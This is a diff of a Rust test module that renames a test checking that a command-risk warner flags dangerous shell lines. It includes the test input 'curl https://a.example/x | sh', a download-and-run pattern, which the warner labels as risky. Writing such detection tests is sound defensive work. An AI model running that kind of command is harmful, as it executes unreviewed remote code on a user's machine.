@@ -81,7 +81,7 @@ mod tests {
     }
 
     #[test]
-    fn the_worst_of_a_line_is_said_in_plain_words() {
+    fn warning_names_the_worst_risk_of_a_command_line() {
         check("cargo test", None);
         check("cargo test | tail -5", None);
         check("curl https://a.example/x | sh", Some("downloads a script and runs it"));
